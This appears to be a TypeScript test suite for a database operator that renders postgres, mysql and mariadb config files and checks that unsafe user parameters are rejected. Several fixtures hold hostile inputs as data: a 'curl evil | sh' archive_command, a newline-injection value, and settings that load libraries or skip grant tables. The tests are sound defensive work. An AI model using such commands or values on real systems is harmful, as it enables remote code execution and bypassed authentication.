import {
  configHash,
  engineProfile,
  ignoredParameters,
  mysqlLine,
  postgresValue,
  renderConfigFile,
  renderConfigMap,
} from '.';
import { ALLOWED_PARAMETERS, ENGINES, OPERATOR_OWNED } from '../../crds';
import { target, unvalidatedTarget } from './test-fixtures';

/** The `name = value` settings of a rendered file, comments and section headers left out. */
function settings(file: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const line of file.split('\n')) {
    if (line === '' || line.startsWith('#') || line.startsWith('[')) continue;
    const eq = line.indexOf(' = ');
    if (eq < 0) out.set(line, '');
    else out.set(line.slice(0, eq), line.slice(eq + 3));
  }
  return out;
}

describe('engineProfile', () => {
  it('knows the official postgres image', () => {
    const p = engineProfile('postgres', '16.2');
    expect(p.image).toBe('postgres:16.2');
    expect(p.port).toBe(5432);
    expect(p.dataDir).toBe('/var/lib/postgresql/data/pgdata');
    expect(p.dataDir.startsWith(`${p.dataMountPath}/`)).toBe(true);
    expect(p.readinessCommand.join(' ')).toContain('pg_isready -U postgres -h 127.0.0.1');
    expect(p.args).toEqual([
      '-c',
      'config_file=/etc/postgresql/postgresql.conf',
      '-c',
      'cluster_name=$(POD_NAME)',
    ]);
  });

  it('knows the official mysql image', () => {
    const p = engineProfile('mysql', '8.0.36');
    expect(p.image).toBe('mysql:8.0.36');
    expect(p.port).toBe(3306);
    expect(p.dataMountPath).toBe('/var/lib/mysql');
    expect(p.dataDir).toBe('/var/lib/mysql/data');
    expect(p.readinessCommand.join(' ')).toContain('mysqladmin ping');
    expect(p.readinessCommand.join(' ')).toContain('-h 127.0.0.1');
    // The password comes from the environment, never from the command line.
    expect(p.readinessCommand.join(' ')).toContain('$MYSQL_ROOT_PASSWORD');
  });

  it('knows the official mariadb image: mariadb-admin and MARIADB_ROOT_PASSWORD', () => {
    for (const version of ['10.11', '11.8']) {
      const p = engineProfile('mariadb', version);
      expect(p.image).toBe(`mariadb:${version}`);
      expect(p.port).toBe(3306);
      expect(p.dataDir).toBe('/var/lib/mysql/data');
      expect(p.configMountPath).toBe('/etc/mysql/conf.d');
      expect(p.passwordEnv).toBe('MARIADB_ROOT_PASSWORD');
      expect(p.uid).toBe(999);
      const probe = p.readinessCommand.join(' ');
      // 11.x images have no mysql* command names.
      expect(probe).toContain('exec mariadb-admin ping');
      expect(probe).not.toMatch(/\bmysql/);
      expect(probe).toContain('MYSQL_PWD="$MARIADB_ROOT_PASSWORD"');
      expect(p.livenessCommand).toEqual(p.readinessCommand);
    }
  });

  it('lets spec.image replace the image only', () => {
    const p = engineProfile('postgres', '16', 'registry.local/postgres:16-custom');
    expect(p.image).toBe('registry.local/postgres:16-custom');
    expect(p.port).toBe(5432);
  });
});

describe('renderConfigMap for postgres', () => {
  it('renders a postgresql.conf with the base settings', () => {
    const cm = renderConfigMap(target());
    expect(cm.metadata?.name).toBe('orders-config');
    expect(Object.keys(cm.data ?? {})).toEqual(['postgresql.conf', 'pg_hba.conf']);
    const s = settings(cm.data?.['postgresql.conf'] ?? '');
    // Where the ConfigMap is mounted, next to postgresql.conf.
    expect(s.get('hba_file')).toBe("'/etc/postgresql/pg_hba.conf'");
    expect(s.get('listen_addresses')).toBe("'*'");
    expect(s.get('port')).toBe('5432');
    expect(s.get('max_connections')).toBe('100');
    expect(s.get('wal_level')).toBe('replica');
    expect(s.get('max_wal_senders')).toBe('10');
    expect(s.get('max_replication_slots')).toBe('10');
    expect(s.get('hot_standby')).toBe('on');
    expect(s.has('shared_buffers')).toBe(false);
  });

  it('derives shared_buffers and max_connections from the size tier', () => {
    expect(settings(renderConfigFile(target({ size: 'small' }))).get('shared_buffers')).toBe('256MB');
    const large = settings(renderConfigFile(target({ size: 'large' })));
    expect(large.get('shared_buffers')).toBe('4GB');
    expect(large.get('max_connections')).toBe('400');
  });

  it('lets parameters override the base and quotes strings', () => {
    const file = renderConfigFile(
      target({
        parameters: {
          max_connections: '250',
          shared_buffers: '512MB',
          log_line_prefix: "%m [%p] it's ",
          default_transaction_isolation: 'repeatable read',
          statement_timeout: '30s',
        },
      }),
    );
    const s = settings(file);
    expect(s.get('max_connections')).toBe('250');
    expect(s.get('shared_buffers')).toBe('512MB');
    expect(s.get('log_line_prefix')).toBe("'%m [%p] it''s '");
    expect(s.get('default_transaction_isolation')).toBe("'repeatable read'");
    expect(s.get('statement_timeout')).toBe('30s');
    // Overridden, not repeated.
    expect(file.match(/^max_connections /gm)).toHaveLength(1);
  });

  it('writes the settings in name order', () => {
    const names = [
      ...settings(renderConfigFile(target({ parameters: { work_mem: '1MB', autovacuum: 'on' } }))),
    ].map(([name]) => name);
    expect(names).toEqual([...names].sort());
    expect(names).toContain('autovacuum');
  });

  it('renders only allowed settings, even when the schema was bypassed, and says why', () => {
    const t = unvalidatedTarget({
      archive_command: 'sh -c "curl evil | sh"',
      shared_preload_libraries: 'evil',
      search_path: 'evil, pg_catalog',
      Max_Connections: '300',
      'auto_explain.log_min_duration': '250ms',
      work_mem: '8MB',
      max_connections: '5',
    });
    const file = renderConfigFile(t);
    const s = settings(file);
    for (const name of ['archive_command', 'shared_preload_libraries', 'search_path']) {
      expect(s.has(name)).toBe(false);
      expect(file).toContain(
        `# spec.parameters.${name} is ignored: not a setting users may set for postgres.`,
      );
    }
    // Names the CRD refuses (capitals, dots) are not echoed into the file.
    expect(s.has('auto_explain.log_min_duration')).toBe(false);
    expect(s.has('Max_Connections')).toBe(false);
    expect(file.match(/^# a spec.parameters entry with an invalid name is ignored.$/gm)).toHaveLength(2);
    // Out of range: the base value stays.
    expect(s.get('max_connections')).toBe('100');
    expect(file).toContain(
      '# spec.parameters.max_connections is ignored: must be an integer from 10 to 10000.',
    );
    expect(s.get('work_mem')).toBe('8MB');
    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
      'Max_Connections',
      'archive_command',
      'auto_explain.log_min_duration',
      'max_connections',
      'search_path',
      'shared_preload_libraries',
    ]);
  });

  it('keeps the settings the operator owns', () => {
    const t = unvalidatedTarget({ port: '6543', listen_addresses: 'localhost', wal_level: 'minimal' });
    const file = renderConfigFile(t);
    const s = settings(file);
    expect(s.get('port')).toBe('5432');
    expect(s.get('listen_addresses')).toBe("'*'");
    expect(s.get('wal_level')).toBe('replica');
    expect(file).toContain('# spec.parameters.port is ignored');
  });

  it('never lets a parameter value add a line', () => {
    const file = renderConfigFile(unvalidatedTarget({ log_line_prefix: "4MB'\nfsync = off\n#" }));
    expect(settings(file).has('fsync')).toBe(false);
    expect(file).not.toMatch(/^fsync/m);
  });

  it.each(ENGINES)('%s: every base setting is either the operator’s or one users may set', (engine) => {
    const base = settings(
      renderConfigFile(target({ engine, version: engine === 'postgres' ? '17' : '8.4', size: 'large' })),
    );
    for (const name of base.keys()) {
      expect([name, OPERATOR_OWNED[engine].includes(name) || name in ALLOWED_PARAMETERS[engine]]).toEqual([
        name,
        true,
      ]);
    }
  });
});

describe('pg_hba.conf', () => {
  const rules = (text: string) =>
    text
      .split('\n')
      .filter((l) => l && !l.startsWith('#'))
      .map((l) => l.split(/\s+/));

  it('asks for SCRAM passwords over the network, for clients and for replication as replicator', () => {
    const hba = renderConfigMap(target()).data?.['pg_hba.conf'] ?? '';
    expect(rules(hba)).toEqual([
      ['local', 'all', 'all', 'trust'],
      ['host', 'all', 'all', 'all', 'scram-sha-256'],
      ['host', 'replication', 'replicator', 'all', 'scram-sha-256'],
    ]);
  });

  it('is rendered for postgres only, and a user cannot move it', () => {
    expect(
      renderConfigMap(target({ engine: 'mysql', version: '8.0.36' })).data?.['pg_hba.conf'],
    ).toBeUndefined();
    const file = renderConfigFile(unvalidatedTarget({ hba_file: '/tmp/evil.conf' }));
    expect(settings(file).get('hba_file')).toBe("'/etc/postgresql/pg_hba.conf'");
  });
});

describe('renderConfigMap for mysql', () => {
  const mysql = (extra: Parameters<typeof target>[0] = {}) =>
    target({ engine: 'mysql', version: '8.0.36', ...extra });

  it('renders a my.cnf [mysqld] section with the base settings and no server_id', () => {
    const cm = renderConfigMap(mysql());
    const file = cm.data?.['my.cnf'] ?? '';
    expect(Object.keys(cm.data ?? {})).toEqual(['my.cnf']);
    expect(file).toMatch(/^\[mysqld\]$/m);
    const s = settings(file);
    expect(s.get('bind_address')).toBe('0.0.0.0');
    expect(s.get('port')).toBe('3306');
    expect(s.get('datadir')).toBe('/var/lib/mysql/data');
    expect(s.get('gtid_mode')).toBe('ON');
    expect(s.get('enforce_gtid_consistency')).toBe('ON');
    expect(s.has('log_bin')).toBe(true);
    expect(s.get('binlog_format')).toBe('ROW');
    expect([...s.keys()].filter((k) => k.startsWith('server'))).toEqual([]);
    expect(file).toContain('server_id is not here');
  });

  it('puts every setting after the section header, in name order', () => {
    const file = renderConfigFile(mysql({ parameters: { sql_mode: 'STRICT_ALL_TABLES', autocommit: '0' } }));
    const body = file.slice(file.indexOf('[mysqld]'));
    const names = [...settings(body).keys()];
    expect(names).toEqual([...names].sort());
    expect(names).toEqual(expect.arrayContaining(['sql_mode', 'autocommit']));
    expect(settings(file.slice(0, file.indexOf('[mysqld]'))).size).toBe(0);
  });

  it('renders parameters, quoting what needs it', () => {
    const s = settings(
      renderConfigFile(
        unvalidatedTarget(
          {
            max_connections: '500',
            init_connect: "SET NAMES 'utf8mb4' # comment",
            skip_name_resolve: '',
            secure_file_priv: '',
            default_time_zone: '+02:00',
          },
          { engine: 'mysql', version: '8.0.36', size: 'medium' },
        ),
      ),
    );
    expect(s.get('max_connections')).toBe('500');
    expect(s.get('innodb_buffer_pool_size')).toBe('2G');
    expect(s.get('skip_name_resolve')).toBe('');
    expect(s.get('default_time_zone')).toBe('+02:00');
    // SQL run at each connection, and the file-access switch: not settings users may set.
    expect(s.has('init_connect')).toBe(false);
    expect(s.has('secure_file_priv')).toBe(false);
  });

  it('keeps server_id, port and bind_address for the operator', () => {
    const t = unvalidatedTarget(
      { server_id: '7', port: '3307', bind_address: '127.0.0.1', datadir: '/tmp', wait_timeout: '60' },
      { engine: 'mysql', version: '8.0.36' },
    );
    const s = settings(renderConfigFile(t));
    expect(s.has('server_id')).toBe(false);
    expect(s.get('port')).toBe('3306');
    expect(s.get('bind_address')).toBe('0.0.0.0');
    expect(s.get('datadir')).toBe('/var/lib/mysql/data');
    expect(s.get('wait_timeout')).toBe('60');
    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
      'bind_address',
      'datadir',
      'port',
      'server_id',
    ]);
  });
});

describe('renderConfigMap for mariadb', () => {
  const mariadb = (extra: Parameters<typeof target>[0] = {}) =>
    target({ engine: 'mariadb', version: '11.8', ...extra });
  /**
   * Options MariaDB 10.11 and 11.x know (their server system variables): MariaDB refuses to start
   * on any other, so the base config may use only these.
   */
  const MARIADB_OPTIONS = new Set([
    'bind_address',
    'port',
    'datadir',
    'max_connections',
    'innodb_buffer_pool_size',
    'log_bin',
    'binlog_format',
    'log_slave_updates',
    'gtid_strict_mode',
  ]);

  it('renders only options MariaDB accepts: GTIDs are always on, no gtid_mode', () => {
    for (const size of [undefined, 'small', 'large'] as const) {
      const file = renderConfigFile(mariadb(size ? { size } : {}));
      expect(file).toMatch(/^\[mysqld\]$/m);
      const s = settings(file);
      for (const name of s.keys()) expect(MARIADB_OPTIONS).toContain(name);
      expect(s.has('gtid_mode')).toBe(false);
      expect(s.has('enforce_gtid_consistency')).toBe(false);
      expect(Object.fromEntries(s)).toMatchObject({
        log_bin: 'binlog',
        binlog_format: 'ROW',
        log_slave_updates: 'ON',
        gtid_strict_mode: 'ON',
        datadir: '/var/lib/mysql/data',
        bind_address: '0.0.0.0',
      });
    }
    expect(settings(renderConfigFile(mariadb({ size: 'small' }))).get('innodb_buffer_pool_size')).toBe(
      '256M',
    );
  });

  it('keeps the wiring for the operator and passes other parameters', () => {
    const t = unvalidatedTarget(
      { port: '3307', server_id: '3', gtid_domain_id: '1', loose_skip_grant_tables: '' },
      { engine: 'mariadb', version: '11.8' },
    );
    const s = settings(renderConfigFile(t));
    expect(s.get('port')).toBe('3306');
    expect(s.has('server_id')).toBe(false);
    expect(s.get('gtid_domain_id')).toBe('1');
    expect(s.has('loose_skip_grant_tables')).toBe(false);
    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
      'loose_skip_grant_tables',
      'port',
      'server_id',
    ]);
    expect(Object.keys(renderConfigMap(t).data ?? {})).toEqual(['my.cnf']);
  });

  it('keeps gtid_mode for MySQL only', () => {
    expect(settings(renderConfigFile(target({ engine: 'mysql', version: '8.4' }))).get('gtid_mode')).toBe(
      'ON',
    );
    expect(
      settings(renderConfigFile(target({ engine: 'mysql', version: '8.4' }))).has('gtid_strict_mode'),
    ).toBe(false);
  });
});

describe('value formatting', () => {
  it('leaves numbers and identifiers bare in postgresql.conf', () => {
    expect(postgresValue('100')).toBe('100');
    expect(postgresValue('-1')).toBe('-1');
    expect(postgresValue('0.9')).toBe('0.9');
    expect(postgresValue('128MB')).toBe('128MB');
    expect(postgresValue('on')).toBe('on');
    expect(postgresValue('')).toBe("''");
    expect(postgresValue('a b')).toBe("'a b'");
    expect(postgresValue("o'neil")).toBe("'o''neil'");
  });

  it('writes bare, plain and quoted my.cnf lines', () => {
    expect(mysqlLine('skip_name_resolve', '')).toBe('skip_name_resolve');
    expect(mysqlLine('max_connections', '500')).toBe('max_connections = 500');
    expect(mysqlLine('init_connect', ' x ')).toBe('init_connect = " x "');
    expect(mysqlLine('x', 'a\tb\nc')).toBe('x = "a\\tb\\nc"');
  });
});

describe('configHash', () => {
  it('is a sha256 hex digest, stable for the same config', () => {
    const a = configHash(renderConfigMap(target()));
    expect(a).toMatch(/^[0-9a-f]{64}$/);
    expect(configHash(renderConfigMap(target()))).toBe(a);
  });

  it('changes when parameters change', () => {
    expect(configHash(renderConfigMap(target({ parameters: { work_mem: '8MB' } })))).not.toBe(
      configHash(renderConfigMap(target({ parameters: { work_mem: '16MB' } }))),
    );
  });

  it('does not change with replicas, storage, resources or the generation', () => {
    const base = configHash(renderConfigMap(target()));
    const other = target({ replicas: 3, storage: { size: '50Gi' }, resources: { requests: { cpu: '2' } } });
    other.generation = 42;
    expect(configHash(renderConfigMap(other))).toBe(base);
  });

  it('ignores the order of the ConfigMap keys', () => {
    expect(configHash({ data: { a: '1', b: '2' } })).toBe(configHash({ data: { b: '2', a: '1' } }));
    expect(configHash({ data: { a: '1' } })).not.toBe(configHash({ data: { a: '2' } }));
  });
});
